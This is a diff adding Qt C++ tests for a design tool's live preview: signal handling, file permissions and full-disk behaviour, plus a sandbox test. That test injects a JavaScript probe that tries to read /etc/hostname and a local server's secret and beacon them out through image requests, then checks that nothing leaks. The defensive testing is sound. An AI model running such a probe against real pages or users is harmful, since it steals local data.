@@ -3,16 +3,24 @@
 #include "enginetest.h"  // first: keeps the engine out of the real home folder
 
 #include "uitest.h"
+#include "../runtime/fulldisk.h"
+#include "../webview_events/httpserver.h"
 
 #include "design/document.h"
 #include "design/rule.h"
 #include "designer_ui/previewwindow.h"
+#include "designer_ui/recovery.h"
 #include "runtime/fileio.h"
 #include "runtime/paths.h"
 
+#include <QBuffer>
+#include <QMessageBox>
 #include <QPointer>
 #include <QPushButton>
 #include <QTemporaryDir>
+
+#include <csignal>
+#include <sys/stat.h>
 
 using designer::LivePreview;
 using designer::MainWindow;
@@ -117,6 +125,22 @@ private slots:
     {
         preview.reset();
         main.reset();
+    }
+
+    // The engine, started by the first preview (so this test comes first),
+    // leaves the designer's own SIGTERM and SIGHUP handling in place.
+    void endSignalsSurviveTheEngine()
+    {
+        designer::quitOnEndSignals();
+        struct sigaction term {}, hup {};
+        QVERIFY(::sigaction(SIGTERM, nullptr, &term) == 0 && ::sigaction(SIGHUP, nullptr, &hup) == 0);
+        QVERIFY(term.sa_handler != SIG_DFL && term.sa_handler != SIG_IGN);
+        clickOpen();
+        QVERIFY(waitUntil([&] { return web.isLoadingCompleted(); }));
+        struct sigaction termAfter {}, hupAfter {};
+        QVERIFY(::sigaction(SIGTERM, nullptr, &termAfter) == 0 && ::sigaction(SIGHUP, nullptr, &hupAfter) == 0);
+        QVERIFY(termAfter.sa_handler == term.sa_handler);
+        QVERIFY(hupAfter.sa_handler == hup.sa_handler);
     }
 
     void opensBesideMainWindowAtCanvasSize()
@@ -305,6 +329,106 @@ private slots:
         QVERIFY(QFileInfo(fallback).isDir());
         // No probe file is left behind.
         QVERIFY(QDir(folder.path()).entryList({QStringLiteral(".preview-*")}, QDir::Files | QDir::Hidden).isEmpty());
+    }
+    // A design's script runs in the preview as in a browser that opened the
+    // saved page: the images beside it and remote ones load, but neither a
+    // file of the user's (nor an image from another folder, which a canvas
+    // could read back) nor a local server's answer can be read and sent on. The page is on disk before the preview opens (its first load) and
+    // is rewritten every tick (the refreshes).
+    void scriptsInTheDesignCannotReadLocalData()
+    {
+        events_test::HttpServer server;
+        server.setHandler([](const events_test::RecordedRequest& r) {
+            if (r.target.startsWith("/secret"))
+                return events_test::HttpServer::response("local-secret", "text/plain");
+            QByteArray png;
+            QBuffer buffer(&png);
+            buffer.open(QIODevice::WriteOnly);
+            QImage(4, 4, QImage::Format_RGB32).save(&buffer, "PNG");
+            return events_test::HttpServer::response(png, "image/png");
+        });
+        {
+            QImage beside(4, 4, QImage::Format_RGB32);
+            beside.fill(Qt::blue);
+            QVERIFY(beside.save(folder.filePath(QStringLiteral("beside.png"))));
+            QVERIFY(QDir(folder.path()).mkpath(QStringLiteral("sub")));
+            QVERIFY(beside.save(folder.filePath(QStringLiteral("sub/below.png"))));
+        }
+        const QString h = QString::fromLatin1(server.url("/"));
+        const QString send = QStringLiteral("function s(p){new Image().src='%1'+p+'&n='+Math.random();}").arg(h);
+        const QString probe = send + QStringLiteral(
+            "s('ran?');"
+            "function get(u,tag){try{var x=new XMLHttpRequest();x.open('GET',u,false);x.send();"
+            "s('leak?'+tag+'='+encodeURIComponent(x.responseText));}catch(e){s('blocked?'+tag);}"
+            "fetch(u).then(function(r){return r.text();}).then(function(t){s('leak?fetch-'+tag+'='+encodeURIComponent(t));},"
+            "function(){s('blocked?fetch-'+tag);});}"
+            "get('file:///etc/hostname','file');get('%1secret','server');").arg(h);
+        const QString inner = QStringLiteral(
+            "<img src=\"beside.png\" onload=\"new Image().src='%1beside-loaded?'+this.naturalWidth\">"
+            "<img src=\"%1remote.png\"><img src=\"sub/below.png\" onload=\"new Image().src='%1leak?other-folder'\">"
+            "<img src=\"missing.png\" onerror=\"%2\">").arg(h, probe);
+        main->design().createComponentWithBox("div", "probe", 0, 0, 200, 100, "", rt::qstringToGb(inner));
+        QVERIFY(rt::writeFileAtomically(previewFile(), design::encodeUtf8(main->design().generateDocument())).ok);
+        clickOpen();
+        const auto count = [&](const QByteArray& prefix) {
+            int n = 0;
+            for (const events_test::RecordedRequest& r : server.requests())
+                n += r.target.startsWith(prefix) ? 1 : 0;
+            return n;
+        };
+        // The first load and two refreshes, each with every probe answered.
+        const auto seen = [&] {
+            QStringList targets;
+            for (const events_test::RecordedRequest& r : server.requests())
+                targets << QString::fromLatin1(r.target.left(60));
+            return targets.join(' ');
+        };
+        QVERIFY2(waitUntil([&] { return count("/ran?") >= 3 && count("/blocked?") >= 12; }, 3 * kRefreshTimeoutMs),
+                 qPrintable(seen()));
+        QTest::qWait(300);  // a late answer would come now
+        QStringList leaks;
+        for (const events_test::RecordedRequest& r : server.requests())
+            if (r.target.startsWith("/leak"))
+                leaks << QString::fromLatin1(r.target);
+        QVERIFY2(leaks.isEmpty(), qPrintable(leaks.join(' ')));
+        QVERIFY2(count("/beside-loaded?4") >= 1, qPrintable(seen()));
+        QVERIFY2(count("/remote.png") >= 1, qPrintable(seen()));
+    }
+
+    // The preview page is the user's alone; on a full disk the last page
+    // stays, the preview says so once, and it goes on once there is room.
+    void previewFileIsPrivateAndSurvivesAFullDisk()
+    {
+        testfs::FullDisk disk;
+        TOLVANE_NEED_FULL_DISK(disk);
+        preview = std::make_unique<LivePreview>(*main, web, disk.path());
+        const QString file = disk.filePath(QStringLiteral("preview.html"));
+        addRedBox(10, 10, 50, 50);
+        clickOpen();
+        const QByteArray first = QByteArray::fromStdString(design::encodeUtf8(main->design().generateDocument()));
+        QTRY_COMPARE_WITH_TIMEOUT(fileBytes(file), first, kRefreshTimeoutMs);
+        struct stat st {};
+        QVERIFY(::stat(QFile::encodeName(file).constData(), &st) == 0);
+        QCOMPARE(int(st.st_mode & 07777), 0600);
+
+        QVERIFY(disk.fill());
+        addRedBox(100, 100, 50, 50);
+        PreviewWindow* w = preview->window();
+        QVERIFY(waitUntil([&] { return w->writeErrorBox() && w->writeErrorBox()->isVisible(); }, kRefreshTimeoutMs));
+        QVERIFY2(w->writeErrorBox()->text().contains(QString::fromLocal8Bit(std::strerror(ENOSPC))),
+                 qPrintable(w->writeErrorBox()->text()));
+        QCOMPARE(fileBytes(file), first);
+        // Said once, not at every tick.
+        w->writeErrorBox()->hide();
+        QTest::qWait(1500);
+        QVERIFY(!w->writeErrorBox()->isVisible());
+        QCOMPARE(fileBytes(file), first);
+
+        QVERIFY(QFile::remove(disk.filePath(QStringLiteral(".filler"))));
+        QTRY_COMPARE_WITH_TIMEOUT(fileBytes(file),
+                                  QByteArray::fromStdString(design::encodeUtf8(main->design().generateDocument())),
+                                  kRefreshTimeoutMs);
+        preview.reset();  // before the disk goes
     }
 };
 
